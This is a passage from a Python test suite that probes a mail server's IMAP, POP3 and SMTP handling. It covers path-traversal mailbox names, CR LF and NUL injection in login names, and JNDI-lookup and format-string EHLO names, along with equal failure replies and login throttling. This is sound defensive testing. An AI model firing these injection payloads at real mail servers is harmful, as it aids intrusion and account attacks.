                            (name, done))
        _, done = c.cmd("n", "NOOP")
        self.assertTrue(done.startswith("n OK"), done)
        c.close()
        for line in self.mailbox_names():
            for bad in (b"x\r", b"x\n", b"x\x00", b"x\x01", b"{"):
                self.assertNotIn(bad, line)

    def test_path_traversal_names_refused(self):
        c = self.login()
        names = ["../x", "a/../b", "..", "x/..", "&AC4ALg-", "x/&AC4ALg-/y",
                 "&AC4ALgAv-x", "&AC8-", "a//b", "/x", "a/./b",
                 "INBOX/../x", "*", "a%b"]
        for i, name in enumerate(names):
            tag = "t%d" % i
            quoted = '"' + name + '"'
            _, done = c.cmd(tag, "CREATE " + quoted)
            self.assertTrue(done.startswith(tag + " NO"), (name, done))
            _, done = c.cmd(tag + "r", "RENAME INBOX " + quoted)
            self.assertTrue(done.startswith(tag + "r NO"), (name, done))
        c.close()
        listed = b"\n".join(self.mailbox_names())
        self.assertNotIn(b"..", listed)
        self.assertNotIn(b"&AC4", listed)

    def login_with_literal_user(self, c, tag, user):
        """LOGIN {n} user {m} password; returns the tagged reply."""
        c.send(b"%s LOGIN {%d}\r\n" % (tag.encode(), len(user)))
        cont = c.line()
        if not cont.startswith("+"):
            return cont
        pw = ALICE_PW.encode()
        c.send(user + b" {%d}\r\n" % len(pw))
        cont = c.line()
        if not cont.startswith("+"):
            return cont
        c.send(pw + b"\r\n")
        return c.tagged(tag)[1]

    def check_login_refused(self, users):
        c = open_imap(self.server)
        for i, user in enumerate(users):
            tag = "l%d" % i
            done = self.login_with_literal_user(c, tag, user)
            self.assertTrue(done.startswith((tag + " NO", tag + " BAD")),
                            (user, done))
        # Still not logged in, and the session is healthy.
        _, done = c.cmd("s", "SELECT INBOX")
        self.assertFalse(done.startswith("s OK"), done)
        _, done = c.cmd("ok", "LOGIN %s \"%s\"" % (ALICE, ALICE_PW))
        self.assertTrue(done.startswith("ok OK"), done)
        c.close()

    def test_login_user_with_embedded_crlf_literal(self):
        self.check_login_refused([b"alice\r\n@example.org",
                                  b"alice@example.org\r\nx",
                                  b"alice@exa\x00mple.org",
                                  b"alice@example.org\x00"])

    def test_login_user_with_surrounding_crlf_literal(self):
        # The right password, but the user name is not "alice@example.org":
        # it carries CR LF (and other whitespace) around it.
        self.check_login_refused([ALICE.encode() + b"\r\n",
                                  b"\r\n" + ALICE.encode(),
                                  b"\r\n" + ALICE.encode() + b"\r\n"])

    def test_hostile_ehlo_names(self):
        for i, helo in enumerate(("${jndi:ldap://x/a}", "%s%n%s%n",
                                  "${jndi:x}", "%n%n%n%n%n")):
            with self.subTest(helo=helo):
                before = inbox_count(self.server, ALICE)
                c = open_smtp(self.server, ehlo=False)
                reply = c.cmd("EHLO " + helo)
                if not reply.startswith("250"):
                    self.assertTrue(reply.startswith("5"), reply)
                    self.assertEqual(c.code("NOOP"), 250)
                    c.close()
                    continue
                self.assertTrue(c.cmd("MAIL FROM:<s@remote.example>")
                                .startswith("250"))
                self.assertTrue(c.cmd("RCPT TO:<%s>" % ALICE)
                                .startswith("250"))
                self.assertEqual(c.code("DATA"), 354)
                c.send(b"Subject: helo-%d\r\n\r\nbody\r\n.\r\n" % i)
                self.assertTrue(c.reply().startswith("250"))
                c.close()
                self.assertEqual(inbox_count(self.server, ALICE), before + 1)
                raw = [m for m in fetch_all(self.server)
                       if header_of(m)["Subject"] == "helo-%d" % i]
                self.assertEqual(len(raw), 1)
                received = raw[0].split(b"\r\n\r\n", 1)[0]
                self.assertIn(b"Received: from " + helo.encode() + b" ",
                              received,
                              "EHLO name not kept byte-exact:\n%s" %
                              received.decode("utf-8", "replace"))


# ------------------------------------- 6. equal replies and throttling

class EqualRepliesTest(HostileCase):
    server_args = {"extra_config": NO_THROTTLE}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.server.add_user(ALICE, ALICE_PW)

    UNKNOWN = "nobody@" + DOMAIN
    UNKNOWN_DOMAIN = "alice@unknown.example"

    def imap_reply(self, user, password, sasl):
        c = open_imap(self.server)
        if sasl:
            _, done = c.cmd("x", "AUTHENTICATE PLAIN " +
                            plain_response(user, password))
        else:
            _, done = c.cmd("x", "LOGIN \"%s\" \"%s\"" % (user, password))
        c.close()
        return done

    def pop3_replies(self, user, password):
        c = open_pop3(self.server)
        out = [c.cmd("USER " + user), c.cmd("PASS " + password),
               c.cmd("AUTH PLAIN " + plain_response(user, password))]
        c.close()
        return out

    def smtp_reply(self, user, password, mech):
        c = open_smtp(self.server, "submissions", tls=True)
        if mech == "PLAIN":
            reply = c.cmd("AUTH PLAIN " + plain_response(user, password))
        else:
            self.assertTrue(c.cmd("AUTH LOGIN").startswith("334"))
            self.assertTrue(c.cmd(b64(user.encode())).startswith("334"))
            reply = c.cmd(b64(password.encode()))
        c.close()
        return reply

    def test_imap(self):
        for sasl in (False, True):
            with self.subTest(sasl=sasl):
                known = self.imap_reply(ALICE, "wrong", sasl)
                self.assertTrue(known.startswith("x NO"), known)
                for other in (self.UNKNOWN, self.UNKNOWN_DOMAIN):
                    self.assertEqual(self.imap_reply(other, "wrong", sasl),
                                     known)
        self.assertTrue(self.imap_reply(ALICE, ALICE_PW, False)
                        .startswith("x OK"))

    def test_pop3(self):
        known = self.pop3_replies(ALICE, "wrong")
        self.assertTrue(known[1].startswith("-ERR"), known)
        self.assertTrue(known[2].startswith("-ERR"), known)
        for other in (self.UNKNOWN, self.UNKNOWN_DOMAIN):
            self.assertEqual(self.pop3_replies(other, "wrong"), known)

    def test_smtp_submission(self):
        for mech in ("PLAIN", "LOGIN"):
            with self.subTest(mech=mech):
                known = self.smtp_reply(ALICE, "wrong", mech)
                self.assertTrue(known.startswith("535"), known)
                for other in (self.UNKNOWN, self.UNKNOWN_DOMAIN):
                    self.assertEqual(self.smtp_reply(other, "wrong", mech),
                                     known)
        self.assertTrue(self.smtp_reply(ALICE, ALICE_PW, "PLAIN")
                        .startswith("235"))


class ThrottleTest(HostileCase):
    # 2 free failures, then 1 s each, blocked after 4 (docs/auth.md).
    server_args = {"extra_config": "[auth]\nthrottle_free_failures = 2\n"
                   "throttle_max_delay_seconds = 1\n"
                   "throttle_block_after = 4\n"}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.server.add_user(ALICE, ALICE_PW)

    def imap_login(self, user, password):
        c = open_imap(self.server)
        start = time.monotonic()
        _, done = c.cmd("x", "LOGIN \"%s\" \"%s\"" % (user, password))
        elapsed = time.monotonic() - start
        c.close()
        return done, elapsed

    def test_failures_delayed_then_blocked_everywhere(self):
        times = []
        for _ in range(4):
            done, elapsed = self.imap_login(ALICE, "wrong")
            self.assertEqual(done, "x NO [AUTHENTICATIONFAILED] "
                             "Authentication failed")
            times.append(elapsed)
        # Past the free failures each answer waits (1 s here).
        self.assertGreaterEqual(times[2], 0.9, times)
        self.assertGreaterEqual(times[3], 0.9, times)
        # Blocked: the right password is refused, temporarily, with the
        # same answer for a known and an unknown user.
        right, _ = self.imap_login(ALICE, ALICE_PW)
        self.assertTrue(right.startswith("x NO"), right)
        self.assertNotIn("AUTHENTICATIONFAILED", right)
        unknown, _ = self.imap_login("nobody@" + DOMAIN, "x")
        self.assertEqual(unknown, right)
        # The block is per IP, whatever the protocol.
        c = open_pop3(self.server)
        self.assertTrue(c.cmd("USER " + ALICE).startswith("+OK"))
        reply = c.cmd("PASS " + ALICE_PW)
        self.assertTrue(reply.startswith("-ERR"), reply)
        c.close()
        c = open_smtp(self.server, "submissions", tls=True)
        reply = c.cmd("AUTH PLAIN " + plain_response(ALICE, ALICE_PW))
        self.assertTrue(reply.startswith("454"), reply)
        c.close()



class ParallelGuessTest(HostileCase):
    # Many connections guessing at the same instant get no more guesses
    # than one connection guessing in turn (throttle.h: attempts in
    # flight count against the block).
    server_args = {"extra_config": "[auth]\nthrottle_free_failures = 0\n"
                   "throttle_max_delay_seconds = 1\n"
                   "throttle_block_after = 4\n"}
    CONNECTIONS = 24

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.server.add_user(ALICE, ALICE_PW)

    def test_simultaneous_guesses_are_bounded_by_block_after(self):
        clients = [open_imap(self.server) for _ in range(self.CONNECTIONS)]
        start = threading.Barrier(len(clients))
        replies = [None] * len(clients)

        def guess(i):
            start.wait()
            try:
                _, replies[i] = clients[i].cmd("x", 'LOGIN "%s" "wrong%d"'
                                               % (ALICE, i))
            except OSError as e:
                replies[i] = "error: %r" % e

        threads = [threading.Thread(target=guess, args=(i,))
                   for i in range(len(clients))]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        for c in clients:
            c.close()
        verified = [r for r in replies if "AUTHENTICATIONFAILED" in r]
        refused = [r for r in replies if r not in verified]
        # At most block_after passwords were checked; every other attempt
        # got a temporary refusal, never a crash or silence.
        self.assertGreaterEqual(len(verified), 1, replies)
        self.assertLessEqual(len(verified), 4, replies)
        for r in refused:
            self.assertTrue(r.startswith("x NO"), r)
        # The fourth failure blocked the address: the right password waits.
        right, _ = ThrottleTest.imap_login(self, ALICE, ALICE_PW)
        if len(verified) == 4:
            self.assertTrue(right.startswith("x NO"), right)
            self.assertNotIn("AUTHENTICATIONFAILED", right)


if __name__ == "__main__":
    unittest.main()
